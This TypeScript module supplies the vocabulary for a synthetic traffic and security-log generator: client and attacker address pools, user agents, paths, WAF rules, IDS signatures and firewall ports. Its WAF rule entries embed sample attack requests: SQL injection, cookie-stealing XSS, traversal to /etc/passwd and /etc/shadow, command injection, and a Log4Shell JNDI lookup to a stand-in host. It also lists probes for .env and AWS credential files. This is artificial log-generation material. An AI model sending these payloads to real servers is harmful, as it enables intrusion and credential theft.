// The vocabulary of the generated traffic: address pools, user agents and paths, HTTP methods and
// statuses, the WAF rules, IDS signatures and firewall targets that traffic.ts builds its log
// lines from. Pools are built once, at load.
import { createRng, int, pick, type Rng } from './rng.ts';

// ---------------------------------------------------------------------------------------------
// Address pools

/** Recurring hostile sources (documentation ranges, RFC 5737), so that searching `203.0.113` finds a campaign. */
const ATTACKERS: readonly string[] = [
  ...[7, 23, 45, 66, 88, 101, 142, 177, 200, 231].map((n) => `203.0.113.${n}`),
  ...[4, 19, 37, 58, 73, 99, 120, 164, 188, 250].map((n) => `198.51.100.${n}`),
  ...[10, 42, 77, 133, 201].map((n) => `192.0.2.${n}`),
];

const CLIENT_FIRST_OCTETS = [
  24, 31, 37, 46, 62, 66, 67, 71, 73, 76, 78, 81, 82, 84, 86, 88, 90, 93, 95, 98, 109, 151, 176, 178,
  185, 188, 212, 213, 217,
];

/** Ordinary visitors: many distinct addresses, a few of them frequent. */
const CLIENTS: readonly string[] = (() => {
  const rng = createRng(0xc1e47);
  return Array.from(
    { length: 4096 },
    () => `${pick(rng, CLIENT_FIRST_OCTETS)}.${int(rng, 0, 255)}.${int(rng, 0, 255)}.${int(rng, 1, 254)}`,
  );
})();

export function sourceAddress(rng: Rng, hostileShare: number): string {
  if (rng.next() < hostileShare) return ATTACKERS[Math.floor(rng.next() * ATTACKERS.length)]!;
  // Squaring skews towards the start of the pool: some visitors come back often.
  const r = rng.next();
  return CLIENTS[Math.floor(r * r * CLIENTS.length)]!;
}

// ---------------------------------------------------------------------------------------------
// HTTP pools

export const BROWSER_AGENTS = [
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36',
  'Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Safari/605.1.15',
  'Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0',
  'Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Mobile/15E148 Safari/604.1',
  'Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.6778.81 Mobile Safari/537.36',
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36 Edg/131.0.2903.51',
  'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)',
  'Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)',
  'okhttp/4.12.0',
  'Go-http-client/2.0',
];

export const HOSTILE_AGENTS = [
  'sqlmap/1.8.11#stable (https://sqlmap.org)',
  'Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000562)',
  'Mozilla/5.0 zgrab/0.x',
  'python-requests/2.32.3',
  'curl/8.5.0',
  'Mozilla/5.0 (compatible; Nuclei - Open-source project (github.com/projectdiscovery/nuclei))',
  'masscan/1.3 (https://github.com/robertdavidgraham/masscan)',
];

export const PATHS: readonly string[] = (() => {
  const rng = createRng(0x9a7b5);
  const hex = () => (0x10000000 + Math.floor(rng.next() * 0xefffffff)).toString(16);
  const fixed = [
    '/', '/index.html', '/login', '/logout', '/account', '/account/orders', '/cart', '/checkout',
    '/favicon.ico', '/robots.txt', '/sitemap.xml', '/healthz', '/api/v1/session', '/api/v1/cart',
    '/api/v1/notifications', '/static/css/main.css', '/images/logo.svg', '/contact', '/about',
  ];
  const generated: string[] = [];
  for (let i = 0; i < 120; i++) generated.push(`/api/v1/products/${int(rng, 1000, 99999)}`);
  for (let i = 0; i < 40; i++) generated.push(`/api/v1/orders/${int(rng, 100000, 999999)}/status`);
  for (let i = 0; i < 30; i++) generated.push(`/static/js/app.${hex()}.js`);
  for (let i = 0; i < 30; i++) generated.push(`/search?q=${pick(rng, ['shoes', 'invoice', 'tracking', 'appointment', 'pricing', 'returns', 'gift+card'])}&page=${int(rng, 1, 5)}`);
  for (let i = 0; i < 30; i++) generated.push(`/images/products/${int(rng, 1000, 99999)}_${pick(rng, ['sm', 'md', 'lg'])}.webp`);
  return [...fixed, ...fixed, ...generated];
})();

export const PROBE_PATHS = [
  '/wp-login.php', '/.env', '/.git/config', '/phpmyadmin/index.php', '/admin/config.php',
  '/cgi-bin/luci/;stok=/locale', '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php',
  '/actuator/env', '/server-status', '/xmlrpc.php', '/boaform/admin/formLogin', '/.aws/credentials',
  '/owa/auth/logon.aspx', '/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession',
];

export const METHODS = ['GET', 'GET', 'GET', 'GET', 'GET', 'GET', 'GET', 'GET', 'GET', 'GET', 'GET', 'GET', 'GET', 'GET', 'POST', 'POST', 'POST', 'HEAD', 'PUT', 'OPTIONS'];

/** Status codes of ordinary requests, repeated by weight. */
export const STATUSES = [
  ...Array<number>(70).fill(200), ...Array<number>(8).fill(304), 301, 302, 302, 201, 201, 204,
  ...Array<number>(8).fill(404), 401, 403, 403, 429, 429, 500, 502, 503,
];
export const PROBE_STATUSES = [404, 404, 404, 403, 403, 403, 429, 200, 301];

export function httpAction(status: number): string {
  return status === 403 ? 'block' : status === 429 ? 'challenge' : 'allow';
}

// ---------------------------------------------------------------------------------------------
// WAF (ModSecurity with the OWASP Core Rule Set)

interface WafRequest {
  method: string;
  /** request target as sent, query included */
  target: string;
  /** path only, as ModSecurity reports it in [uri] */
  uri: string;
}

interface WafRule {
  id: string;
  file: string;
  line: string;
  msg: string;
  severity: string;
  tag: string;
  requests: WafRequest[];
}

function req(method: string, target: string): WafRequest {
  const q = target.indexOf('?');
  return { method, target, uri: q < 0 ? target : target.slice(0, q) };
}

export const WAF_RULES: readonly WafRule[] = [
  {
    id: '942100', file: 'REQUEST-942-APPLICATION-ATTACK-SQLI.conf', line: '46',
    msg: 'SQL Injection Attack Detected via libinjection', severity: 'CRITICAL', tag: 'attack-sqli',
    requests: [
      req('GET', '/api/v1/products?id=1%27%20UNION%20SELECT%20username,password%20FROM%20users--'),
      req('GET', '/search?q=%27%20OR%20%271%27=%271'),
      req('POST', '/login'),
    ],
  },
  {
    id: '941100', file: 'REQUEST-941-APPLICATION-ATTACK-XSS.conf', line: '55',
    msg: 'XSS Attack Detected via libinjection', severity: 'CRITICAL', tag: 'attack-xss',
    requests: [
      req('GET', '/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E'),
      req('POST', '/contact'),
      req('GET', '/account?name=%3Csvg/onload=alert(1)%3E'),
    ],
  },
  {
    id: '930120', file: 'REQUEST-930-APPLICATION-ATTACK-LFI.conf', line: '97',
    msg: 'OS File Access Attempt', severity: 'CRITICAL', tag: 'attack-lfi',
    requests: [
      req('GET', '/download?file=../../../../etc/passwd'),
      req('GET', '/static/..%2f..%2f..%2fetc%2fshadow'),
    ],
  },
  {
    id: '932100', file: 'REQUEST-932-APPLICATION-ATTACK-RCE.conf', line: '77',
    msg: 'Remote Command Execution: Unix Command Injection', severity: 'CRITICAL', tag: 'attack-rce',
    requests: [
      req('GET', '/api/v1/ping?host=127.0.0.1%3Bcat%20/etc/passwd'),
      req('POST', '/cgi-bin/luci/;stok=/locale'),
    ],
  },
  {
    id: '944150', file: 'REQUEST-944-APPLICATION-ATTACK-JAVA.conf', line: '201',
    msg: 'Potential Remote Command Execution: Log4j / Log4shell', severity: 'CRITICAL', tag: 'attack-rce',
    requests: [req('GET', '/?x=$%7Bjndi:ldap://198.51.100.73:1389/a%7D'), req('GET', '/api/v1/session')],
  },
  {
    id: '933160', file: 'REQUEST-933-APPLICATION-ATTACK-PHP.conf', line: '216',
    msg: 'PHP Injection Attack: High-Risk PHP Function Call Found', severity: 'CRITICAL', tag: 'attack-injection-php',
    requests: [
      req('POST', '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php'),
      req('GET', '/index.php?s=/Index/%5Cthink%5Capp/invokefunction&function=call_user_func_array'),
    ],
  },
  {
    id: '913100', file: 'REQUEST-913-SCANNER-DETECTION.conf', line: '34',
    msg: 'Found User-Agent associated with security scanner', severity: 'CRITICAL', tag: 'attack-reputation-scanner',
    requests: [req('GET', '/wp-login.php'), req('GET', '/.env'), req('GET', '/phpmyadmin/index.php')],
  },
  {
    id: '920350', file: 'REQUEST-920-PROTOCOL-ENFORCEMENT.conf', line: '753',
    msg: 'Host header is a numeric IP address', severity: 'WARNING', tag: 'attack-protocol',
    requests: [req('GET', '/'), req('GET', '/.git/config')],
  },
  {
    id: '920420', file: 'REQUEST-920-PROTOCOL-ENFORCEMENT.conf', line: '1045',
    msg: 'Request content type is not allowed by policy', severity: 'CRITICAL', tag: 'attack-protocol',
    requests: [req('POST', '/api/v1/cart'), req('PUT', '/api/v1/session')],
  },
  {
    id: '949110', file: 'REQUEST-949-BLOCKING-EVALUATION.conf', line: '81',
    msg: 'Inbound Anomaly Score Exceeded (Total Score: 10)', severity: 'CRITICAL', tag: 'anomaly-evaluation',
    requests: [req('GET', '/api/v1/orders?id=1%20AND%201=1'), req('POST', '/login')],
  },
];

// ---------------------------------------------------------------------------------------------
// IDS (Suricata with Emerging Threats rules)

interface IdsSignature {
  sid: string;
  rev: string;
  msg: string;
  classification: string;
  priority: string;
  proto: 'TCP' | 'UDP';
  ports: readonly string[];
}

export const IDS_SIGNATURES: readonly IdsSignature[] = [
  { sid: '2001219', rev: '20', msg: 'ET SCAN Potential SSH Scan', classification: 'Attempted Information Leak', priority: '2', proto: 'TCP', ports: ['22'] },
  { sid: '2010935', rev: '3', msg: 'ET SCAN Suspicious inbound to MSSQL port 1433', classification: 'Potentially Bad Traffic', priority: '2', proto: 'TCP', ports: ['1433'] },
  { sid: '2010937', rev: '3', msg: 'ET SCAN Suspicious inbound to mySQL port 3306', classification: 'Potentially Bad Traffic', priority: '2', proto: 'TCP', ports: ['3306'] },
  { sid: '2010939', rev: '3', msg: 'ET SCAN Suspicious inbound to PostgreSQL port 5432', classification: 'Potentially Bad Traffic', priority: '2', proto: 'TCP', ports: ['5432'] },
  { sid: '2002910', rev: '6', msg: 'ET SCAN Potential VNC Scan 5800-5820', classification: 'Attempted Information Leak', priority: '2', proto: 'TCP', ports: ['5800', '5900'] },
  { sid: '2009582', rev: '3', msg: 'ET SCAN NMAP -sS window 1024', classification: 'Attempted Information Leak', priority: '2', proto: 'TCP', ports: ['21', '23', '80', '443', '8080', '3389'] },
  { sid: '2008578', rev: '6', msg: 'ET SCAN Sipvicious Scan', classification: 'Attempted Information Leak', priority: '2', proto: 'UDP', ports: ['5060'] },
  { sid: '2034647', rev: '2', msg: 'ET EXPLOIT Apache log4j RCE Attempt (http ldap) (CVE-2021-44228)', classification: 'Attempted Administrator Privilege Gain', priority: '1', proto: 'TCP', ports: ['80', '443', '8080'] },
  { sid: '2024792', rev: '4', msg: 'ET EXPLOIT Possible SMB Relay / MS17-010 Echo Request', classification: 'Attempted Administrator Privilege Gain', priority: '1', proto: 'TCP', ports: ['445'] },
  { sid: '2402000', rev: '7021', msg: 'ET DROP Dshield Block Listed Source group 1', classification: 'Misc Attack', priority: '2', proto: 'TCP', ports: ['22', '80', '443', '3389', '8443'] },
  { sid: '2522000', rev: '4612', msg: 'ET TOR Known Tor Relay/Router (Not Exit) Node Traffic group 1', classification: 'Misc Attack', priority: '2', proto: 'TCP', ports: ['443', '9001'] },
  { sid: '2027758', rev: '3', msg: 'ET DNS Query for .onion proxy Domain', classification: 'Potentially Bad Traffic', priority: '2', proto: 'UDP', ports: ['53'] },
  { sid: '2013028', rev: '7', msg: 'ET POLICY curl User-Agent Outbound', classification: 'Attempted Information Leak', priority: '2', proto: 'TCP', ports: ['80'] },
];

// ---------------------------------------------------------------------------------------------
// Firewall (UFW kernel log)

interface FirewallTarget {
  proto: 'TCP' | 'UDP';
  port: string;
}

export const BLOCKED_TARGETS: readonly FirewallTarget[] = [
  ...['22', '23', '25', '445', '1433', '3306', '3389', '5432', '5900', '6379', '8080', '9200', '27017', '2375', '8291'].map(
    (port): FirewallTarget => ({ proto: 'TCP', port }),
  ),
  ...['53', '123', '161', '1900', '5060', '11211'].map((port): FirewallTarget => ({ proto: 'UDP', port })),
];
export const ALLOWED_TARGETS: readonly FirewallTarget[] = [
  { proto: 'TCP', port: '443' },
  { proto: 'TCP', port: '443' },
  { proto: 'TCP', port: '80' },
  { proto: 'UDP', port: '443' },
  { proto: 'TCP', port: '22' },
];

export const YEAR = 31_536_000;
